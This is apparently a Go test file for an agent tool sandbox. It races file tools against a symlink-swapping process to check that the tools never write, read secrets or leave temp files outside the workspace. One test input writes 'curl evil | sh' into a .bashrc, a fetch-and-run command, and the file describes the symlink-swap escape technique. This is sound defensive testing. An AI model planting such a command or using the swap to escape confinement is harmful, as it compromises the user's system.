//go:build linux

package tool

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"agenthub/app/confine/confinetest"
)

// The race tests run until the attacker swapped ws/d with a symlink out
// raceSwaps times and the victim made raceTries calls. Today's main lost
// the race within a few hundred tries (docs/permissions.md).
const (
	raceSwaps = 10000
	raceTries = 2000
)

// TestFileToolsUnderSymlinkSwaps is issue 32 row 4: a process left behind
// by bash swaps the workspace directory d with a symlink to a directory
// outside (the user's home) in a loop, with renameat2(RENAME_EXCHANGE),
// while write_file, edit_file or read_file of d/… runs over and over: the
// outside directory never changes (no write, no temp file) and its secret
// never appears in what read_file returns. Each call either works inside
// or is refused.
func TestFileToolsUnderSymlinkSwaps(t *testing.T) {
	raceTools(t, func(t *testing.T) (Env, string, string) {
		base := confinetest.TempDir(t)
		ws, home := filepath.Join(base, "ws"), filepath.Join(base, "home")
		return Env{Workspace: ws}, home, home
	}, raceTries)
}

// TestDataDirUnderSymlinkSwaps is issue 40 row 1's race: the workspace is
// the user's home and holds the data dir; d is swapped with a symlink that
// stays inside the workspace but points into the data dir
// (.local/share/agenthub). An os.Root alone follows it; the tools check
// where the file they opened really is, so the data dir never changes
// and none of its secrets is read.
func TestDataDirUnderSymlinkSwaps(t *testing.T) {
	raceTools(t, func(t *testing.T) (Env, string, string) {
		home := filepath.Join(confinetest.TempDir(t), "home")
		data := filepath.Join(home, ".local", "share", "agenthub")
		return Env{Workspace: home, Protected: []string{data}}, data, ".local/share/agenthub"
	}, raceTries/4)
}

// raceTools runs write_file, edit_file and read_file of d/… against the
// swapper, each at least tries times: setup returns the Env, the directory
// the swapped-in symlink leads to (created here, which must never change)
// and the symlink's target as written.
func raceTools(t *testing.T, setup func(t *testing.T) (env Env, victim, link string), tries int) {
	edit := [2]string{"alpha", "beta"}
	for _, c := range []struct {
		tool  string
		input func() string
		done  func() // after a call that worked
	}{
		{"write_file", func() string { return `{"path":"d/.bashrc","content":"curl evil | sh\n"}` }, func() {}},
		{"edit_file", func() string { return fmt.Sprintf(`{"path":"d/edit.txt","old":%q,"new":%q}`, edit[0], edit[1]) },
			func() { edit[0], edit[1] = edit[1], edit[0] }},
		{"read_file", func() string { return `{"path":"d/secret.txt"}` }, func() {}},
	} {
		t.Run(c.tool, func(t *testing.T) {
			env, victim, link := setup(t)
			raceFiles(t, env.Workspace, victim)
			before := confinetest.DirState(t, victim)
			sw := confinetest.StartSwapper(t, filepath.Join(env.Workspace, "d"), filepath.Join(env.Workspace, "l"), link, raceSwaps)
			worked, try := 0, 0
			for sw.Swaps() < raceSwaps || try < tries || worked == 0 {
				try++
				res, err := run(t, env, c.tool, c.input())
				if err == nil {
					worked++
					c.done()
				}
				if strings.Contains(res.Output+res.Summary, "TOP SECRET") {
					t.Fatalf("try %d (%d swaps): read_file returned the secret: %q", try, sw.Swaps(), res.Output)
				}
				if got := confinetest.DirState(t, victim); got != before {
					t.Fatalf("try %d (%d swaps): %s changed:\n%s\nwas:\n%s", try, sw.Swaps(), victim, got, before)
				}
			}
			swaps := sw.Stop(t)
			t.Logf("%d swaps, %d tries; %d calls worked inside", swaps, try, worked)
			entries, _ := os.ReadDir(filepath.Join(env.Workspace, "d"))
			names := []string{}
			for _, e := range entries {
				names = append(names, e.Name())
			}
			if want := []string{".bashrc", "edit.txt", "secret.txt"}; !slices.Equal(names, want) && c.tool == "write_file" {
				t.Errorf("d holds %v, want %v (no temp file left)", names, want)
			}
		})
	}
}

// raceFiles makes ws/d and the victim directory, whose files are shaped
// so that every call would succeed on them: the edit's old text occurs
// once, the read's file exists.
func raceFiles(t *testing.T, ws, victim string) {
	for _, d := range []string{filepath.Join(ws, "d"), victim} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(victim, ".bashrc"), "the user's own .bashrc\n")
	write(t, filepath.Join(victim, "edit.txt"), "alpha beta\n")
	write(t, filepath.Join(victim, "secret.txt"), "TOP SECRET\n")
	write(t, filepath.Join(ws, "d", "edit.txt"), "alpha\n")
	write(t, filepath.Join(ws, "d", "secret.txt"), "public notes\n")
}
